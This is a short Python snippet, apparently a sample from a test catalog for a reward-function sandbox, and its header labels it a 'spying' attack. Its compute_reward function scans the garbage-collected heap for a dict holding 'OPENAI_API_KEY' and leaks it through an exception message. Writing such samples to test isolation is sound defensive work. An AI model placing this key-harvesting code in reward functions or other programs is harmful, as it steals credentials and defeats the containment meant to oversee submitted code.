# attack: searching its own heap for a key
# group: spying
# wall: language; alone: never in this process

def compute_reward(x):
    import ctypes, gc
    raise ValueError([o for o in gc.get_objects() if type(o) is dict and 'OPENAI_API_KEY' in o][:1])
